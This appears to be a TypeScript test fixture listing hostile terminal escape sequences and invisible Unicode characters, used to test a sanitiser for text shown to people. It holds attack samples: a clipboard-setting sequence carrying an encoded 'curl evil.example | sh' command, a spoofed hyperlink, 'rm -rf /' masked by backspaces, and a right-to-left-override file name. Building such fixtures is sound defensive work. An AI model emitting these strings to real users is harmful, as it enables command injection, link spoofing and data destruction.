// Strings an agent, a tool result, a web page or a repository can put in front of a person, each with the side
// effect a terminal would perform if it received it raw.

/** One hostile string and the effect the emulator reports when it is written raw. */
export interface HostileString {
  readonly name: string;
  readonly text: string;
  /** An effect {@link renderInTerminal} reports for the raw text (proves the check can fail). */
  readonly rawEffect: string;
}

export const hostileStrings: readonly HostileString[] = [
  { name: 'clear screen, cursor home', text: 'before\x1b[2J\x1b[Hafter', rawEffect: 'csi J' },
  { name: 'scroll region of two rows', text: 'x\x1b[1;2ry', rawEffect: 'csi r' },
  {
    name: 'OSC 52 sets the clipboard',
    text: 'copy\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07done',
    rawEffect: 'osc 52',
  },
  {
    name: 'OSC 8 hyperlink with a different target',
    text: 'see \x1b]8;;https://evil.example/steal\x1b\\https://docs.example/\x1b]8;;\x1b\\ for details',
    rawEffect: 'osc 8',
  },
  { name: 'OSC 0 window title (BEL)', text: 'x\x1b]0;pwned\x07y', rawEffect: 'title' },
  { name: 'OSC 2 window title (ST)', text: 'x\x1b]2;pwned\x1b\\y', rawEffect: 'title' },
  { name: 'C1 CSI (U+009B) clears the screen', text: 'one\u009b2Jtwo', rawEffect: 'csi J' },
  { name: 'C1 OSC (U+009D) title, ended by C1 ST', text: 'a\u009d0;pwned\u009cb', rawEffect: 'title' },
  { name: 'DCS request status string', text: 'a\x1bP$qm\x1b\\b', rawEffect: 'dcs' },
  { name: 'C1 DCS (U+0090)', text: 'a\u0090$qm\u009cb', rawEffect: 'dcs' },
  { name: 'APC string', text: 'a\x1b_hidden payload\x1b\\b', rawEffect: 'hidden' },
  { name: 'PM string', text: 'a\x1b^hidden payload\x1b\\b', rawEffect: 'hidden' },
  { name: 'SOS string', text: 'a\x1bXhidden payload\x1b\\b', rawEffect: 'hidden' },
  { name: 'C1 APC (U+009F)', text: 'a\u009fhidden\u009cb', rawEffect: 'hidden' },
  { name: 'device status report makes the terminal type', text: 'q\x1b[6n', rawEffect: 'answer' },
  { name: 'alternate screen', text: 'a\x1b[?1049hb', rawEffect: 'csi ?h' },
  { name: 'bracketed paste and mouse tracking on', text: 'a\x1b[?2004h\x1b[?1000hb', rawEffect: 'csi ?h' },
  { name: 'save and restore cursor', text: 'a\x1b7b\x1b8c', rawEffect: 'esc' },
  { name: 'concealed text (SGR 8)', text: 'shown\x1b[8mconcealed\x1b[0m', rawEffect: 'attributes' },
  {
    name: 'carriage return overwrites',
    text: 'https://evil.example/\rhttps://docs.example',
    rawEffect: 'hidden',
  },
  { name: 'backspaces overwrite', text: 'rm -rf /\b\b\b\b\b\b\b\bls -la   ', rawEffect: 'hidden' },
  { name: 'bell', text: 'ding\x07', rawEffect: 'bell' },
  { name: 'DEL and NUL', text: 'a\x7fb\x00c', rawEffect: 'hidden' },
  { name: 'vertical tab and form feed', text: 'a\x0bb\x0cc', rawEffect: 'hidden' },
];

/** Characters a terminal draws as nothing or reorders: the screen would not show what the text is. */
export const invisibleStrings: readonly { readonly name: string; readonly text: string }[] = [
  { name: 'right-to-left override', text: 'invoice_\u202etxt.exe' },
  { name: 'left-to-right embedding and pop', text: 'a\u202ab\u202cc' },
  { name: 'isolates', text: 'a\u2066b\u2067c\u2068d\u2069e' },
  { name: 'marks', text: 'a\u200eb\u200fc\u061cd' },
  { name: 'zero-width space, joiners, word joiner', text: 'ex\u200bam\u200cp\u200dle\u2060.com' },
  { name: 'byte order mark', text: '\ufeffhello' },
  {
    name: 'tags block (hidden ASCII)',
    text: 'hi\u{e0001}\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e007f}',
  },
  { name: 'variation selectors', text: 'a\ufe0fb\u{e0100}c' },
  { name: 'soft hyphen', text: 'pay\u00adpal.com' },
  { name: 'line and paragraph separators', text: 'a\u2028b\u2029c' },
  { name: 'Hangul filler', text: 'a\u3164b' },
  { name: 'lone surrogates', text: 'a\ud800b\udc00c' },
  { name: 'next line (C1 NEL)', text: 'a\u0085b' },
];
